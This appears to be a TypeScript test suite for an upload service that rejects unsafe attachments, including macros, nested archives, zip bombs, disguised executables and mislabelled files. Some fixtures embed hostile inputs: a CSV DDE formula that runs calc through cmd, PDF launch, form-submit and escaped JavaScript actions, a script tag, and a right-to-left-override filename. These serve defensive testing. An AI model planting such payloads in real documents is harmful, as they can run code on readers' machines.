import { expect } from 'chai'
import type { OwnerRef } from '../../../server/business/contract/attachments/attachments.contract.ts'
import { useService } from '../../support/app.ts'
import { attach, codesOf, settledCounts, storedCounts } from '../../support/attachments/attaching.ts'
import { docxBytes, PNG_BYTES, pdfBytes, SAMPLES, type SampleFile, xlsxBytes } from '../../support/attachments/files.ts'
import { zipOf } from '../../support/attachments/zip.ts'
import { submissionStages } from '../../support/builders/submission.ts'
import type { ApiClient } from '../../support/client.ts'

const MAX = 300_000

describe('a file that is not let in', function () {
  this.timeout(60_000)
  const service = useService({ intake: { maxBytes: MAX, scanner: null } })
  let owner: OwnerRef
  let maker: ApiClient
  before(async () => {
    owner = { kind: 'submission', number: (await submissionStages(service).draft())._id }
    maker = await service.signIn('manufacturerA')
  })
  beforeEach(async () => {
    expect(await storedCounts()).to.deep.equal({ attachments: 0, contents: 0, files: 0, chunks: 0, loose: 0 })
  })
  afterEach(async () => {
    expect(await settledCounts(), 'left behind').to.deep.equal({
      attachments: 0,
      contents: 0,
      files: 0,
      chunks: 0,
      loose: 0,
    })
  })

  const file = (name: string, bytes: Buffer | string): SampleFile => ({ name, bytes: Buffer.from(bytes) })
  const windowsProgram = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90), Buffer.alloc(64)])
  const nul = Buffer.from([0x61, 0, 0x62])
  const CASES: readonly (readonly [string, SampleFile, number, readonly string[]])[] = [
    ['is empty', file('empty.pdf', ''), 422, ['attachment.empty']],
    ['is larger than allowed', file('big.txt', 'x'.repeat(MAX + 1)), 413, ['attachment.too-large']],
    ['is a program', file('tool.exe', windowsProgram), 415, ['attachment.kind-not-allowed']],
    ['is a program called a PDF', file('tool.pdf', windowsProgram), 415, ['attachment.kind-not-allowed']],
    ['is a PNG called a PDF', file('a.pdf', PNG_BYTES), 422, ['attachment.extension-lies']],
    ['is a PDF called text', file('a.txt', pdfBytes()), 422, ['attachment.extension-lies']],
    ['is a workbook called a document', file('a.docx', xlsxBytes()), 422, ['attachment.extension-lies']],
    ['is text without extension', file('README', 'text'), 422, ['attachment.extension-lies']],
    ['is a web page', file('page.html', '<script>alert(1)</script>'), 422, ['attachment.extension-lies']],
    ['is text in another encoding', file('a.csv', Buffer.from('d6b8b1ea2cd6b5', 'hex')), 422, ['attachment.not-utf8']],
    ['is text with a zero in it', file('a.txt', nul), 422, ['attachment.not-utf8']],
    ['is a PDF that was cut short', file('a.pdf', pdfBytes().subarray(0, 150)), 422, ['attachment.damaged']],
    ['is a PNG that was cut short', file('a.png', PNG_BYTES.subarray(0, 50)), 422, ['attachment.damaged']],
    ['is a document that was cut short', file('a.docx', docxBytes().subarray(0, 200)), 422, ['attachment.damaged']],
    [
      'is a document with something after it',
      file('a.docx', `${docxBytes().toString('latin1')}x`),
      422,
      ['attachment.damaged'],
    ],
    [
      'is a plain archive',
      file('a.zip', zipOf([{ name: 'a.txt', content: 'a' }])),
      415,
      ['attachment.kind-not-allowed'],
    ],
    ['has macros', file('a.docx', docxBytes({ name: 'word/vbaProject.bin' })), 422, ['attachment.macros']],
    [
      'has an archive inside',
      file('a.xlsx', xlsxBytes({ name: 'xl/media/x.zip' })),
      422,
      ['attachment.archive-nested'],
    ],
    [
      'is encrypted',
      file('a.docx', docxBytes({ name: 'word/x.xml', flags: 1 })),
      422,
      ['attachment.archive-encrypted'],
    ],
    [
      'runs something when opened',
      file('a.pdf', pdfBytes('/OpenAction << /S /Launch /F (x) >>')),
      422,
      ['attachment.pdf-action'],
    ],
    [
      'submits a form',
      file('a.pdf', pdfBytes('/AA << /S /SubmitForm /F (http://192.0.2.1/) >>')),
      422,
      ['attachment.pdf-action'],
    ],
    ['starts a program from a cell', file('a.csv', "a,=cmd|' /C calc'!A0"), 422, ['attachment.dde']],
    [
      'hides a script behind escapes',
      file('a.pdf', pdfBytes('/AA << /S /J#61va#53cript >>')),
      422,
      ['attachment.pdf-action'],
    ],
    ['reads other than it is', file('report\u202Efdp.txt', 'text'), 422, ['attachment.name-unsafe']],
  ]
  for (const [what, sample, status, codes] of CASES) {
    it(`is refused where it ${what}`, async () => {
      const answer = await attach(maker, owner, sample)
      expect([answer.status, ...codesOf(answer)]).to.deep.equal([status, ...codes])
    })
  }

  it('is told everything that is wrong with it at once', async () => {
    const loaded = docxBytes({ name: 'word/vbaProject.bin' }, { name: 'inner.zip' })
    const answer = await attach(maker, owner, { name: 'a.xlsx', bytes: loaded }, {}, 'image/png')
    expect(codesOf(answer)).to.have.members([
      'attachment.extension-lies',
      'attachment.type-lies',
      'attachment.macros',
      'attachment.archive-nested',
    ])
  })

  it('is refused where it says that it unpacks to too much', async () => {
    const bomb = docxBytes({ name: 'word/media/a.bin', content: 'a', claimedBytes: 0xf0000000 })
    const answer = await attach(maker, owner, { name: 'a.docx', bytes: bomb })
    expect(codesOf(answer)).to.deep.equal(['attachment.archive-size'])
    const size = answer.problem.failures.find(({ code }) => code === 'attachment.archive-size')
    expect(size).to.include({ threshold: 209_715_200, unit: 'bytes' })
  })

  it('is refused where the browser declares another type than it has', async () => {
    const answer = await attach(maker, owner, SAMPLES.pdf, {}, 'image/png')
    expect(answer.problem.failures[0]).to.include({
      code: 'attachment.type-lies',
      value: 'image/png',
      threshold: 'application/pdf',
    })
  })

  it('is refused where it unpacks to a thousand times its size', async () => {
    const bytes = xlsxBytes({ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(40_000_000) })
    expect(bytes.length).to.be.lessThan(MAX)
    const answer = await attach(maker, owner, { name: 'a.xlsx', bytes })
    expect(codesOf(answer)).to.deep.equal(['attachment.archive-ratio'])
  })
})
